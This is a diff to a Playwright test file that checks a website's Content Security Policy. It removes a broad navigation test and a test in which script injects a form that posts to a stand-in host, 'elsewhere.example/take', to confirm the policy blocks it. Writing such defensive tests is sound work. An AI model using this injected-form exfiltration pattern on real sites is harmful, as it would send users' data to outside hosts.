@@ -1,12 +1,8 @@
-/** The headers of every response, and what their security policy allows and blocks in a real browser. */
+/** The headers of every response, and what their security policy blocks; every other test fails if it blocks more. */
 import { readdirSync } from "node:fs";
-import contact from "../../data/contact.json";
-import downloads from "../../data/downloads.json";
-import { fontFamilies } from "../../src/theme/font-families";
 import { firstCourse } from "../support/site-routes";
-import { gallery } from "../support/shown-content";
 import { expect, test } from "../support/site-test";
-import { hydrate, pressHeaderLink, visit } from "../support/page-visits";
+import { hydrate } from "../support/page-visits";
 
 /** Matches the browser's message about a blocked resource; site-test.ts reports these as errors. */
 const blockedByPolicy = /^(.*?)(?: 'http\S+')? violates the following Content Security Policy directive/;
@@ -57,52 +53,6 @@ test("pages contain only known scripts", async ({ request }) => {
     "'self'",
     ...[...readdirSync("src/browser/inline"), "speculation rules"].map(() => "'sha256'"),
   ]);
-});
-
-test("the policy blocks nothing on pages, in menus, forms, pictures and downloads", async ({ page }) => {
-  test.setTimeout(6 * 15_000); // six pages
-  await page.addInitScript(() => Object.assign(navigator, { share: () => Promise.resolve() }));
-  const main = page.getByRole("main");
-  await visit(page, "/");
-
-  async function goTo(path: string) {
-    await pressHeaderLink(page, path);
-    await expect(page).toHaveURL(path);
-    const heading = main.getByRole("heading", { level: 1 });
-    await expect(heading, "the styles of the next page have come").toHaveCSS(
-      "font-family",
-      new RegExp(fontFamilies.display.name),
-    );
-  }
-
-  await main.getByRole("button", { name: "Next testimonial" }).click();
-
-  await goTo("/contact");
-  const form = page.getByRole("region", { name: contact.form.heading });
-  for (const name of ["First Name", "Message"]) await form.getByRole("textbox", { name, exact: true }).fill("Asha");
-  await form.getByRole("textbox", { name: "Email", exact: true }).fill("asha@example.com");
-  await form.getByRole("button", { name: "Send Message", exact: true }).click();
-  await expect(form.getByRole("heading", { name: contact.form.sent.heading })).toBeFocused();
-
-  await goTo("/admissions");
-  const coming = page.waitForEvent("download");
-  await main.getByRole("link", { name: downloads.brochure.action }).click();
-  expect((await coming).suggestedFilename()).toBe("brochure.pdf");
-
-  await goTo(firstCourse.path);
-  await hydrate(page);
-  await main.getByRole("button", { name: `Share ${firstCourse.title}` }).click();
-
-  await goTo("/gallery");
-  await page.locator(`#picture-${gallery.albums[0]?.slug}-1`).click();
-  const box = page.getByRole("dialog");
-  await box.getByRole("button", { name: "Next picture" }).click();
-  await expect(box.getByRole("img").nth(1)).toHaveJSProperty("complete", true);
-  await page.keyboard.press("Escape");
-
-  await goTo("/courses");
-  await main.getByRole("radio", { name: "Advanced", exact: true }).check();
-  await expect(page).toHaveURL(/level=Advanced/);
 });
 
 test("injected content neither runs, loads, nor changes the page's looks", async ({ page, pageErrors }) => {
@@ -157,16 +107,4 @@ test("injected content neither runs, loads, nor changes the page's looks", async
   await page.evaluate(() => setTimeout("document.title = 'ran'"));
   await expect.poll(() => pageErrors.seen.join("\n")).toMatch(/^Evaluating a string as JavaScript violates /m);
   await expect(page).not.toHaveTitle("ran");
-});
-
-test("an injected form cannot post to another site", async ({ page, pageErrors }) => {
-  pageErrors.expect(blockedByPolicy);
-  await page.goto("/about");
-  await page.evaluate(() => {
-    const form = document.createElement("form");
-    form.action = "https://elsewhere.example/take";
-    document.body.append(form);
-    form.submit();
-  });
-  await expect.poll(() => pageErrors.seen.join("\n")).toMatch(/https:\/\/elsewhere\.example\/take.*form-action/);
 });
